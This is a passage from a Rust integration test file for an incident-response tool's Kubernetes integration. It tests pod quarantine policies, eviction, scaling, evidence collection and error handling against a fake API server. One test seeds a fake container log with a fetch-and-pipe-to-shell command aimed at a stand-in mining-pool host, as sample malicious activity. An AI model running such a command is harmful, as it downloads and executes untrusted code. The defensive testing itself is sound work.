//! The Kubernetes integration (`integrations/kubernetes`) against the fake API server of
//! `tests/fakes/kubernetes.py`, which follows the Kubernetes 1.30 API reference and validates every
//! object Cordon sends against the official 1.30 JSON schemas (kubernetes-validate 1.37.0). The fake
//! serves HTTPS with the test CA of `tests/data/kube/`; Cordon trusts only that CA and
//! authenticates with a bearer token from a file, or with a client certificate from a kubeconfig.
//! Each action is checked by the state it leaves in the fake, then its undo; the stock playbooks
//! `k8s-falco-shell` and `k8s-falco-crypto-miner` run end to end through the real server.

mod support;

use std::path::{Path, PathBuf};

use cordon::engine::exec::{ActionCall, ActionError, ActionRunner};
use cordon::integrations::Integrations;
use serde_json::{Value, json};
use support::kube::{self, FakeKube};
use support::*;

const TOKEN: &str = "kube-token-3f9a61c2e8";

fn repo(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(rel)
}

/// The fake, a token file it accepts, and the integration pointed at it as cluster `prod` (the
/// default) by server + CA + token file.
struct Setup {
    fake: FakeKube,
    dir: tempfile::TempDir,
    integrations: Integrations,
}

impl Setup {
    async fn new() -> Setup {
        let fake = FakeKube::start().await;
        fake.accept_tokens(&[TOKEN]).await;
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("token"), format!("{TOKEN}\n")).unwrap();
        let integrations = load(&clusters_yaml(&fake, dir.path())).unwrap();
        Setup {
            fake,
            dir,
            integrations,
        }
    }

    fn token_file(&self) -> PathBuf {
        self.dir.path().join("token")
    }
}

/// `clusters:` with `prod` (server, CA, token file) as the default.
fn clusters_yaml(fake: &FakeKube, dir: &Path) -> String {
    format!(
        "      default_cluster: prod\n      clusters:\n        prod:\n          server: {}\n          ca_file: {}\n          token_file: {}\n",
        fake.base,
        kube::pem("ca.pem").display(),
        dir.join("token").display()
    )
}

/// The integrations section loading `integrations/kubernetes` with `credentials` (the lines
/// under `kubernetes:`).
fn integrations_yaml(credentials: &str) -> String {
    format!(
        "integrations:\n  paths: [{}]\n  credentials:\n    kubernetes:\n{credentials}",
        repo("integrations/kubernetes").display()
    )
}

fn load(credentials: &str) -> Result<Integrations, String> {
    let text = integrations_yaml(credentials);
    let config = cordon::config::parse(&text, Path::new("test.yaml"))
        .unwrap_or_else(|d| panic!("config: {d}"));
    Integrations::load(&config.integrations, reqwest::Client::new(), None).map_err(|problems| {
        problems
            .iter()
            .map(|d| d.to_string())
            .collect::<Vec<_>>()
            .join("\n")
    })
}

fn call_for(step: &str) -> ActionCall {
    ActionCall {
        run_id: "run-1".into(),
        step_id: step.into(),
        playbook: "test".into(),
        incident_id: Some("inc-1".into()),
        idempotency_key: format!("run-1:{step}"),
        dry_run: false,
        account: None,
    }
}

trait Call {
    async fn run(&self, action: &str, inputs: Value) -> Result<Value, ActionError>;

    async fn ok(&self, action: &str, inputs: Value) -> Value {
        self.run(action, inputs)
            .await
            .unwrap_or_else(|e| panic!("{action}: {e:?}"))
    }

    async fn fails(&self, action: &str, inputs: Value) -> ActionError {
        match self.run(action, inputs).await {
            Ok(out) => panic!("{action} succeeded: {out}"),
            Err(e) => e,
        }
    }
}

impl Call for Integrations {
    async fn run(&self, action: &str, inputs: Value) -> Result<Value, ActionError> {
        self.call(&format!("kubernetes.{action}"), inputs, &call_for(action))
            .await
    }
}

fn pod_path(ns: &str, pod: &str) -> String {
    format!("/api/v1/namespaces/{ns}/pods/{pod}")
}

fn policy_path(ns: &str, name: &str) -> String {
    format!("/apis/networking.k8s.io/v1/namespaces/{ns}/networkpolicies/{name}")
}

fn web(ns: &str, name: &str) -> Value {
    kube::pod(
        ns,
        name,
        "node-1",
        &["app"],
        Some(("ReplicaSet", "web-7d9f8b")),
    )
}

/// A cluster whose CNI enforces NetworkPolicies (Calico, as the tigera operator installs it).
async fn seed_calico(fake: &FakeKube) {
    fake.seed(&[kube::daemonset(
        "calico-system",
        "calico-node",
        &[("calico-node", &[])],
    )])
    .await;
}

// ---- labels ------------------------------------------------------------------------------------

#[tokio::test]
async fn label_pod_sets_labels_and_its_undo_puts_back_what_was_there() {
    let s = Setup::new().await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    let inputs = json!({ "namespace": "shop", "pod": "web-1", "labels": { "app": "suspect", "cordon.io/incident": "inc-1" } });
    let out = s.integrations.ok("label_pod", inputs.clone()).await;
    assert_eq!(out["cluster"], "prod");
    assert_eq!(out["changed"], true);
    assert_eq!(
        out["previous"],
        json!({ "app": "web", "cordon.io/incident": null })
    );
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert_eq!(
        pod["metadata"]["labels"],
        json!({ "app": "suspect", "cordon.io/incident": "inc-1" })
    );
    let patches = s
        .fake
        .calls("PATCH /api/v1/namespaces/shop/pods/web-1")
        .await;
    assert_eq!(patches.len(), 1);
    assert_eq!(patches[0]["content_type"], "application/merge-patch+json");
    assert_eq!(
        patches[0]["user"], "system:serviceaccount:cordon:cordon-responder",
        "the token from the file was sent"
    );

    // A repeat changes nothing and sends no patch.
    let again = s.integrations.ok("label_pod", inputs.clone()).await;
    assert_eq!(again["changed"], false);
    assert_eq!(s.fake.calls("PATCH").await.len(), 1);

    // The undo, as `cordon runs undo` calls it: the original inputs plus `previous`.
    let back = s
        .integrations
        .ok(
            "unlabel_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": inputs["labels"], "previous": out }),
        )
        .await;
    assert_eq!(back["restored"], json!({ "app": "web" }));
    assert_eq!(back["removed"], json!({ "cordon.io/incident": "inc-1" }));
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert_eq!(pod["metadata"]["labels"], json!({ "app": "web" }));

    // Bad label keys or values are refused before any request.
    let before = s.fake.requests().await.len();
    for labels in [
        json!({ "bad key": "x" }),
        json!({ "ok": "a/b" }),
        json!({ "ok": 5 }),
    ] {
        let error = s
            .integrations
            .fails(
                "label_pod",
                json!({ "namespace": "shop", "pod": "web-1", "labels": labels }),
            )
            .await;
        assert!(error.message.contains("label"), "{error:?}");
    }
    assert_eq!(s.fake.requests().await.len(), before);
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn a_missing_pod_is_a_clear_error_and_a_missing_pod_to_release_is_nothing_to_do() {
    let s = Setup::new().await;
    let error = s
        .integrations
        .fails(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "ghost" }),
        )
        .await;
    assert_eq!(error.message, "pod shop/ghost was not found");
    assert!(!error.retryable);
    let out = s
        .integrations
        .ok(
            "release_pod",
            json!({ "namespace": "shop", "pod": "ghost" }),
        )
        .await;
    assert_eq!(
        (&out["gone"], &out["changed"]),
        (&json!(true), &json!(false))
    );
    let out = s
        .integrations
        .ok(
            "unlabel_pod",
            json!({ "namespace": "shop", "pod": "ghost", "keys": ["app"] }),
        )
        .await;
    assert_eq!(out["gone"], true);
}

// ---- isolation ---------------------------------------------------------------------------------

#[tokio::test]
async fn isolate_pod_creates_one_deny_all_policy_per_namespace_and_release_removes_the_label() {
    let s = Setup::new().await;
    seed_calico(&s.fake).await;
    s.fake
        .seed(&[web("shop", "web-1"), web("shop", "web-2")])
        .await;
    let out = s
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert_eq!(out["policy"], "cordon-quarantine");
    assert_eq!(out["policy_created"], true);
    assert_eq!(out["changed"], true);
    assert_eq!(
        out["cni"]["enforcing"],
        json!(["calico-system/calico-node"])
    );
    assert!(out.get("warning").is_none(), "{out}");

    let policy = s
        .fake
        .object(&policy_path("shop", "cordon-quarantine"))
        .await
        .expect("the policy exists");
    assert_eq!(
        policy["spec"],
        json!({
            "podSelector": { "matchExpressions": [{ "key": "cordon.io/quarantine", "operator": "Exists" }] },
            "policyTypes": ["Ingress", "Egress"],
        }),
        "no ingress and no egress rule: everything is denied both ways"
    );
    assert_eq!(
        policy["metadata"]["labels"],
        json!({ "app.kubernetes.io/managed-by": "cordon", "cordon.io/purpose": "quarantine" })
    );
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert_eq!(
        pod["metadata"]["labels"]["cordon.io/quarantine"],
        "isolated"
    );
    assert_eq!(pod["metadata"]["labels"]["app"], "web", "other labels kept");
    assert_eq!(
        pod["metadata"]["annotations"]["cordon.io/quarantined-by"],
        "run-1/isolate_pod"
    );

    // The policy is made once per namespace; a repeat on the same pod changes nothing.
    let second = s
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-2" }),
        )
        .await;
    assert_eq!(second["policy_created"], false);
    let repeat = s
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert_eq!(
        (&repeat["changed"], &repeat["policy_created"]),
        (&json!(false), &json!(false))
    );
    assert_eq!(s.fake.calls("POST /apis/networking.k8s.io").await.len(), 1);

    // The undo removes the label and the annotation, and keeps the policy.
    let back = s
        .integrations
        .ok(
            "release_pod",
            json!({ "namespace": "shop", "pod": "web-1", "previous": out }),
        )
        .await;
    assert_eq!(back["changed"], true);
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert!(
        pod["metadata"]["labels"]
            .get("cordon.io/quarantine")
            .is_none(),
        "{pod}"
    );
    assert!(
        pod["metadata"]["annotations"]
            .get("cordon.io/quarantined-by")
            .is_none(),
        "{pod}"
    );
    assert!(
        s.fake
            .object(&policy_path("shop", "cordon-quarantine"))
            .await
            .is_some()
    );
    let again = s
        .integrations
        .ok(
            "release_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert_eq!(
        again["changed"], false,
        "releasing a released pod is nothing to do"
    );
    let pod2 = s.fake.object(&pod_path("shop", "web-2")).await.unwrap();
    assert_eq!(
        pod2["metadata"]["labels"]["cordon.io/quarantine"], "isolated",
        "only the one pod is released"
    );
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn keep_dns_adds_a_policy_letting_the_pod_reach_kube_dns_only() {
    let s = Setup::new().await;
    seed_calico(&s.fake).await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    let out = s
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1", "keep_dns": true }),
        )
        .await;
    assert_eq!(
        (&out["value"], &out["dns_policy_created"]),
        (&json!("isolated-dns"), &json!(true))
    );
    let dns = s
        .fake
        .object(&policy_path("shop", "cordon-quarantine-dns"))
        .await
        .unwrap();
    assert_eq!(dns["spec"]["policyTypes"], json!(["Egress"]));
    assert_eq!(
        dns["spec"]["podSelector"],
        json!({ "matchLabels": { "cordon.io/quarantine": "isolated-dns" } })
    );
    let rule = &dns["spec"]["egress"][0];
    assert_eq!(
        rule["ports"],
        json!([{ "protocol": "UDP", "port": 53 }, { "protocol": "TCP", "port": 53 }])
    );
    assert_eq!(
        rule["to"][0]["podSelector"],
        json!({ "matchLabels": { "k8s-app": "kube-dns" } })
    );
    assert!(dns["spec"].get("ingress").is_none());
    // The pod is still selected by the deny-all policy too (it selects the key, any value).
    assert!(
        s.fake
            .object(&policy_path("shop", "cordon-quarantine"))
            .await
            .is_some()
    );
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn isolation_warns_when_no_cni_known_to_enforce_policies_is_found() {
    let s = Setup::new().await;
    s.fake
        .seed(&[
            web("shop", "web-1"),
            kube::daemonset("kube-system", "kube-flannel-ds", &[("kube-flannel", &[])]),
            kube::daemonset(
                "kube-system",
                "aws-node",
                &[
                    ("aws-node", &[]),
                    ("aws-eks-nodeagent", &["--enable-network-policy=false"]),
                ],
            ),
        ])
        .await;
    let out = s
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    let warning = out["warning"].as_str().expect("a warning");
    assert!(
        warning.contains("no CNI plugin known to enforce NetworkPolicies"),
        "{warning}"
    );
    assert_eq!(out["cni"]["enforcing"], json!([]));
    // The isolation is still applied: the warning says it may not hold.
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert_eq!(
        pod["metadata"]["labels"]["cordon.io/quarantine"],
        "isolated"
    );

    // The VPC CNI with its network policy agent enabled enforces them.
    let eks = Setup::new().await;
    eks.fake
        .seed(&[
            web("shop", "web-1"),
            kube::daemonset(
                "kube-system",
                "aws-node",
                &[
                    ("aws-node", &[]),
                    ("aws-eks-nodeagent", &["--enable-network-policy=true"]),
                ],
            ),
        ])
        .await;
    let out = eks
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert!(out.get("warning").is_none(), "{out}");
    assert_eq!(out["cni"]["enforcing"], json!(["kube-system/aws-node"]));

    // Without permission to list DaemonSets, the check says it could not look.
    let blind = Setup::new().await;
    blind.fake.seed(&[web("shop", "web-1")]).await;
    blind.fake.forbid("list", "daemonsets").await;
    let out = blind
        .integrations
        .ok(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert!(
        out["warning"]
            .as_str()
            .unwrap()
            .contains("could not list DaemonSets"),
        "{out}"
    );
}

#[tokio::test]
async fn a_policy_of_that_name_that_is_not_cordons_is_refused() {
    let s = Setup::new().await;
    s.fake
        .seed(&[
            web("shop", "web-1"),
            json!({
                "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
                "metadata": { "name": "cordon-quarantine", "namespace": "shop" },
                "spec": { "podSelector": {}, "policyTypes": ["Ingress"] },
            }),
        ])
        .await;
    let error = s
        .integrations
        .fails(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert!(
        error.message.contains("is not Cordon's deny-all policy"),
        "{error:?}"
    );
    let pod = s.fake.object(&pod_path("shop", "web-1")).await.unwrap();
    assert!(
        pod["metadata"]["labels"]
            .get("cordon.io/quarantine")
            .is_none(),
        "the pod is not labelled"
    );
}

// ---- termination -------------------------------------------------------------------------------

#[tokio::test]
async fn terminate_pod_deletes_it_with_the_grace_period_and_its_uid() {
    let s = Setup::new().await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    let uid = s.fake.object(&pod_path("shop", "web-1")).await.unwrap()["metadata"]["uid"].clone();
    let out = s
        .integrations
        .ok(
            "terminate_pod",
            json!({ "namespace": "shop", "pod": "web-1", "grace_period_seconds": 5 }),
        )
        .await;
    assert_eq!(out["deleted"], true);
    assert_eq!(out["controller"], "ReplicaSet/web-7d9f8b");
    assert!(s.fake.object(&pod_path("shop", "web-1")).await.is_none());
    let delete = &s.fake.calls("DELETE").await[0];
    assert_eq!(
        delete["body"],
        json!({ "apiVersion": "v1", "kind": "DeleteOptions", "gracePeriodSeconds": 5, "preconditions": { "uid": uid } })
    );
    let again = s
        .integrations
        .ok(
            "terminate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert_eq!(again["deleted"], false, "already gone: nothing to do");
    assert_eq!(s.fake.calls("DELETE").await.len(), 1);
    s.fake.assert_all_valid().await;
}

// ---- nodes -------------------------------------------------------------------------------------

#[tokio::test]
async fn cordon_node_marks_it_unschedulable_and_the_undo_leaves_a_node_cordoned_before_alone() {
    let s = Setup::new().await;
    let mut drained = kube::node("node-2");
    drained["spec"]["unschedulable"] = json!(true);
    s.fake.seed(&[kube::node("node-1"), drained]).await;
    let out = s
        .integrations
        .ok("cordon_node", json!({ "node": "node-1" }))
        .await;
    assert_eq!(
        (&out["changed"], &out["was_unschedulable"]),
        (&json!(true), &json!(false))
    );
    let node = s.fake.object("/api/v1/nodes/node-1").await.unwrap();
    assert_eq!(node["spec"]["unschedulable"], true);
    assert_eq!(
        node["metadata"]["annotations"]["cordon.io/cordoned-by"],
        "run-1/cordon_node"
    );
    let repeat = s
        .integrations
        .ok("cordon_node", json!({ "node": "node-1" }))
        .await;
    assert_eq!(repeat["changed"], false);

    let back = s
        .integrations
        .ok(
            "uncordon_node",
            json!({ "node": "node-1", "previous": out }),
        )
        .await;
    assert_eq!(back["changed"], true);
    let node = s.fake.object("/api/v1/nodes/node-1").await.unwrap();
    assert!(node["spec"].get("unschedulable").is_none(), "{node}");
    assert!(
        node["metadata"]
            .get("annotations")
            .is_none_or(|a| a.get("cordon.io/cordoned-by").is_none())
    );

    // A node someone else had cordoned stays cordoned after the undo.
    let out = s
        .integrations
        .ok("cordon_node", json!({ "node": "node-2" }))
        .await;
    assert_eq!(
        (&out["changed"], &out["was_unschedulable"]),
        (&json!(false), &json!(true))
    );
    let back = s
        .integrations
        .ok(
            "uncordon_node",
            json!({ "node": "node-2", "previous": out }),
        )
        .await;
    assert_eq!(back["changed"], false);
    assert_eq!(
        s.fake.object("/api/v1/nodes/node-2").await.unwrap()["spec"]["unschedulable"],
        true
    );

    let error = s
        .integrations
        .fails("cordon_node", json!({ "node": "node-9" }))
        .await;
    assert_eq!(error.message, "node node-9 was not found");
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn evict_pods_uses_the_eviction_api_and_skips_daemonset_and_mirror_pods() {
    let s = Setup::new().await;
    let mut mirror = kube::pod("kube-system", "etcd-node-1", "node-1", &["etcd"], None);
    mirror["metadata"]["annotations"] = json!({ "kubernetes.io/config.mirror": "5b3c1e" });
    let ds_pod = kube::pod(
        "kube-system",
        "calico-node-x1",
        "node-1",
        &["calico-node"],
        Some(("DaemonSet", "calico-node")),
    );
    s.fake
        .seed(&[
            web("shop", "web-1"),
            web("shop", "web-2"),
            kube::pod("shop", "elsewhere", "node-2", &["app"], None),
            mirror,
            ds_pod,
        ])
        .await;
    s.fake.pdb_block("shop", "web-2").await;
    let error = s
        .integrations
        .fails(
            "evict_pods",
            json!({ "node": "node-1", "grace_period_seconds": 10 }),
        )
        .await;
    assert!(
        error.retryable,
        "a disruption budget is waited for: {error:?}"
    );
    assert!(error.message.contains("shop/web-2"), "{error:?}");
    assert!(
        s.fake.object(&pod_path("shop", "web-1")).await.is_none(),
        "web-1 was evicted"
    );
    assert!(s.fake.object(&pod_path("shop", "web-2")).await.is_some());

    // Once the budget allows it, a retry evicts the rest.
    let s2 = Setup::new().await;
    let mut mirror = kube::pod("kube-system", "etcd-node-1", "node-1", &["etcd"], None);
    mirror["metadata"]["annotations"] = json!({ "kubernetes.io/config.mirror": "5b3c1e" });
    s2.fake
        .seed(&[
            web("shop", "web-1"),
            kube::pod("shop", "elsewhere", "node-2", &["app"], None),
            mirror,
            kube::pod(
                "kube-system",
                "calico-node-x1",
                "node-1",
                &["calico-node"],
                Some(("DaemonSet", "calico-node")),
            ),
        ])
        .await;
    let out = s2
        .integrations
        .ok(
            "evict_pods",
            json!({ "node": "node-1", "grace_period_seconds": 10 }),
        )
        .await;
    assert_eq!(out["evicted"], json!(["shop/web-1"]));
    let skipped: Vec<&str> = out["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["pod"].as_str().unwrap())
        .collect();
    assert_eq!(
        skipped,
        ["kube-system/calico-node-x1", "kube-system/etcd-node-1"]
    );
    let evictions = s2.fake.calls("/eviction").await;
    assert_eq!(evictions.len(), 1);
    assert_eq!(
        evictions[0]["body"],
        json!({ "apiVersion": "policy/v1", "kind": "Eviction",
                "metadata": { "name": "web-1", "namespace": "shop" },
                "deleteOptions": { "gracePeriodSeconds": 10 } })
    );
    assert!(
        s2.fake
            .object(&pod_path("shop", "elsewhere"))
            .await
            .is_some(),
        "pods of other nodes stay"
    );
    assert!(
        s2.fake
            .object(&pod_path("kube-system", "etcd-node-1"))
            .await
            .is_some()
    );
    s.fake.assert_all_valid().await;
    s2.fake.assert_all_valid().await;
}

// ---- evidence ----------------------------------------------------------------------------------

fn sha256(text: &str) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(text.as_bytes()))
}

#[tokio::test]
async fn collect_pod_logs_reads_every_container_and_previous_instances_within_the_cap() {
    let s = Setup::new().await;
    let mut pod = kube::pod("shop", "web-1", "node-1", &["app", "sidecar"], None);
    pod["spec"]["initContainers"] =
        json!([{ "name": "init", "image": "registry.example.com/init:1" }]);
    pod["status"]["containerStatuses"] = json!([
        { "name": "app", "image": "a", "imageID": "", "ready": true, "restartCount": 2 },
        { "name": "sidecar", "image": "s", "imageID": "", "ready": true, "restartCount": 0 },
    ]);
    s.fake.seed(&[pod]).await;
    s.fake
        .log("shop", "web-1", "init", false, "init done\n")
        .await;
    s.fake
        .log(
            "shop",
            "web-1",
            "app",
            false,
            "GET /healthz 200\ncurl http://pool.example:3333 | sh\n",
        )
        .await;
    s.fake
        .log("shop", "web-1", "app", true, "started miner\n")
        .await;
    s.fake
        .log("shop", "web-1", "sidecar", false, "proxy up\n")
        .await;
    let out = s
        .integrations
        .ok(
            "collect_pod_logs",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    let logs = out["logs"].as_array().unwrap();
    let seen: Vec<(&str, bool)> = logs
        .iter()
        .map(|l| {
            (
                l["container"].as_str().unwrap(),
                l["previous"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        seen,
        [
            ("init", false),
            ("app", false),
            ("app", true),
            ("sidecar", false)
        ]
    );
    for log in logs {
        assert_eq!(log["sha256"], sha256(log["text"].as_str().unwrap()));
    }
    assert_eq!(logs[2]["text"], "started miner\n");
    let evidence = out["evidence"].as_array().unwrap();
    assert_eq!(evidence.len(), 4);
    assert_eq!(evidence[2]["kind"], "pod-log");
    assert_eq!(
        evidence[2]["location"],
        "k8s://prod/api/v1/namespaces/shop/pods/web-1/log?container=app&previous=true"
    );
    assert_eq!(evidence[2]["sha256"], sha256("started miner\n"));
    assert_eq!(evidence[2]["incident_id"], "inc-1", "completed by the host");

    // The cap is for all logs together: what is left cuts the next one, the rest are skipped.
    let capped = s
        .integrations
        .ok(
            "collect_pod_logs",
            json!({ "namespace": "shop", "pod": "web-1", "max_bytes": 15, "previous": false }),
        )
        .await;
    assert_eq!(capped["total_bytes"], 15);
    let logs = capped["logs"].as_array().unwrap();
    assert_eq!(logs[0]["text"], "init done\n");
    assert_eq!(
        (&logs[1]["text"], &logs[1]["truncated"]),
        (&json!("GET /"), &json!(true))
    );
    assert_eq!(capped["skipped"][0]["reason"], "max_bytes reached");
    let requests = s.fake.calls("/log").await;
    assert!(
        requests
            .iter()
            .all(|r| r["query"]["limitBytes"].as_str().is_some())
    );
}

#[tokio::test]
async fn snapshot_pod_records_the_pod_its_owners_its_events_and_its_node_with_a_digest() {
    let s = Setup::new().await;
    let [deployment, replicaset] = kube::deployment("shop", "web", 3);
    let mut pod = web("shop", "web-1");
    pod["metadata"]["managedFields"] = json!([{ "manager": "kubelet", "operation": "Update" }]);
    s.fake
        .seed(&[deployment, replicaset, pod, kube::node("node-1")])
        .await;
    let uid = s.fake.object(&pod_path("shop", "web-1")).await.unwrap()["metadata"]["uid"].clone();
    s.fake
        .seed(&[json!({
            "apiVersion": "v1", "kind": "Event",
            "metadata": { "name": "web-1.17c2a", "namespace": "shop" },
            "involvedObject": { "kind": "Pod", "name": "web-1", "namespace": "shop", "uid": uid },
            "reason": "Started", "message": "Started container app", "type": "Normal",
        })])
        .await;
    let out = s
        .integrations
        .ok(
            "snapshot_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    let snapshot = &out["snapshot"];
    assert_eq!(snapshot["pod"]["metadata"]["uid"], uid);
    assert!(snapshot["pod"]["metadata"].get("managedFields").is_none());
    let owners: Vec<(&str, &str)> = snapshot["owners"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| (o["kind"].as_str().unwrap(), o["name"].as_str().unwrap()))
        .collect();
    assert_eq!(
        owners,
        [("ReplicaSet", "web-7d9f8b"), ("Deployment", "web")]
    );
    assert_eq!(snapshot["owners"][1]["object"]["spec"]["replicas"], 3);
    assert_eq!(snapshot["events"][0]["reason"], "Started");
    assert_eq!(snapshot["node"]["metadata"]["name"], "node-1");
    let document = out["document"].as_str().unwrap();
    assert_eq!(out["sha256"], sha256(document));
    let reparsed: Value = serde_json::from_str(document).unwrap();
    assert_eq!(&reparsed, snapshot, "the document is the snapshot");
    let record = &out["evidence"][0];
    assert_eq!(record["kind"], "pod-snapshot");
    assert_eq!(
        record["location"],
        "k8s://prod/api/v1/namespaces/shop/pods/web-1"
    );
    assert_eq!(record["sha256"], out["sha256"]);
    assert_eq!(
        record["details"]["owners"],
        json!(["ReplicaSet/web-7d9f8b", "Deployment/web"])
    );
}

// ---- scale -------------------------------------------------------------------------------------

#[tokio::test]
async fn scale_to_zero_walks_to_the_deployment_and_restore_scale_reads_the_annotation_back() {
    let s = Setup::new().await;
    let [deployment, replicaset] = kube::deployment("shop", "web", 3);
    s.fake
        .seed(&[deployment, replicaset, web("shop", "web-1")])
        .await;
    let out = s
        .integrations
        .ok(
            "scale_to_zero",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert_eq!(
        (&out["kind"], &out["name"], &out["previous_replicas"]),
        (&json!("Deployment"), &json!("web"), &json!(3))
    );
    let path = "/apis/apps/v1/namespaces/shop/deployments/web";
    let deployment = s.fake.object(path).await.unwrap();
    assert_eq!(deployment["spec"]["replicas"], 0);
    assert_eq!(
        deployment["metadata"]["annotations"]["cordon.io/previous-replicas"],
        "3"
    );
    let put = &s
        .fake
        .calls("PUT /apis/apps/v1/namespaces/shop/deployments/web/scale")
        .await[0];
    assert!(
        put["body"]["metadata"]["resourceVersion"].is_string(),
        "{put}"
    );
    assert_eq!(put["content_type"], "application/json");

    let repeat = s
        .integrations
        .ok(
            "scale_to_zero",
            json!({ "namespace": "shop", "kind": "Deployment", "name": "web" }),
        )
        .await;
    assert_eq!(
        (&repeat["changed"], &repeat["previous_replicas"]),
        (&json!(false), &json!(3))
    );

    // The undo works from the annotation alone (the pod is gone once scaled to zero).
    let back = s
        .integrations
        .ok(
            "restore_scale",
            json!({ "namespace": "shop", "kind": "Deployment", "name": "web" }),
        )
        .await;
    assert_eq!(
        (&back["replicas"], &back["changed"]),
        (&json!(3), &json!(true))
    );
    let deployment = s.fake.object(path).await.unwrap();
    assert_eq!(deployment["spec"]["replicas"], 3);
    assert!(
        deployment["metadata"]["annotations"]
            .get("cordon.io/previous-replicas")
            .is_none()
    );
    let again = s
        .integrations
        .ok(
            "restore_scale",
            json!({ "namespace": "shop", "pod": "web-1", "previous": out }),
        )
        .await;
    assert_eq!(again["changed"], false);
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn a_conflict_on_the_scale_is_read_again_and_retried_once() {
    let s = Setup::new().await;
    s.fake
        .seed(&[json!({
            "apiVersion": "apps/v1", "kind": "StatefulSet",
            "metadata": { "name": "db", "namespace": "shop" },
            "spec": { "replicas": 2, "serviceName": "db", "selector": { "matchLabels": { "app": "db" } },
                      "template": { "metadata": { "labels": { "app": "db" } }, "spec": { "containers": [{ "name": "db", "image": "postgres:16" }] } } },
        }), kube::pod("shop", "db-0", "node-1", &["db"], Some(("StatefulSet", "db")))])
        .await;
    s.fake.inject("update", "statefulsets/scale", 409, 1).await;
    let out = s
        .integrations
        .ok(
            "scale_to_zero",
            json!({ "namespace": "shop", "pod": "db-0" }),
        )
        .await;
    assert_eq!(
        (&out["kind"], &out["previous_replicas"]),
        (&json!("StatefulSet"), &json!(2))
    );
    let puts = s
        .fake
        .calls("PUT /apis/apps/v1/namespaces/shop/statefulsets/db/scale")
        .await;
    assert_eq!(
        puts.iter()
            .map(|p| p["status"].as_u64().unwrap())
            .collect::<Vec<_>>(),
        [409, 200]
    );
    assert_eq!(
        s.fake
            .object("/apis/apps/v1/namespaces/shop/statefulsets/db")
            .await
            .unwrap()["spec"]["replicas"],
        0
    );

    // Two conflicts in a row: a clear error.
    s.fake.inject("update", "statefulsets/scale", 409, 2).await;
    let error = s
        .integrations
        .fails(
            "restore_scale",
            json!({ "namespace": "shop", "kind": "StatefulSet", "name": "db" }),
        )
        .await;
    assert!(error.message.contains("409 Conflict"), "{error:?}");
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn a_pod_without_a_scalable_owner_is_refused() {
    let s = Setup::new().await;
    s.fake
        .seed(&[
            kube::pod(
                "kube-system",
                "calico-node-x1",
                "node-1",
                &["c"],
                Some(("DaemonSet", "calico-node")),
            ),
            kube::pod("shop", "bare", "node-1", &["c"], None),
        ])
        .await;
    let error = s
        .integrations
        .fails(
            "scale_to_zero",
            json!({ "namespace": "kube-system", "pod": "calico-node-x1" }),
        )
        .await;
    assert!(
        error
            .message
            .contains("DaemonSet calico-node, which cannot be scaled"),
        "{error:?}"
    );
    let error = s
        .integrations
        .fails(
            "scale_to_zero",
            json!({ "namespace": "shop", "pod": "bare" }),
        )
        .await;
    assert!(
        error.message.contains("has no controller to scale"),
        "{error:?}"
    );
}

// ---- errors ------------------------------------------------------------------------------------

#[tokio::test]
async fn a_refusal_by_rbac_names_the_missing_permission_and_is_not_retried() {
    let s = Setup::new().await;
    seed_calico(&s.fake).await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    s.fake.forbid("patch", "pods").await;
    let error = s
        .integrations
        .fails(
            "isolate_pod",
            json!({ "namespace": "shop", "pod": "web-1" }),
        )
        .await;
    assert!(!error.retryable);
    assert!(
        error.message.contains("403 Forbidden")
            && error.message.contains(
                "cannot patch resource \"pods\" in API group \"\" in the namespace \"shop\""
            ),
        "{error:?}"
    );
    assert!(!error.message.contains(TOKEN));
}

#[tokio::test]
async fn an_outage_is_retryable_and_says_which_cluster() {
    let s = Setup::new().await;
    s.fake.seed(&[web("shop", "web-1")]).await;
    s.fake.inject("get", "pods", 503, 1).await;
    let error = s
        .integrations
        .fails(
            "label_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": { "a": "b" } }),
        )
        .await;
    assert!(error.retryable, "{error:?}");
    assert!(
        error.message.contains("cluster `prod` answered 503"),
        "{error:?}"
    );
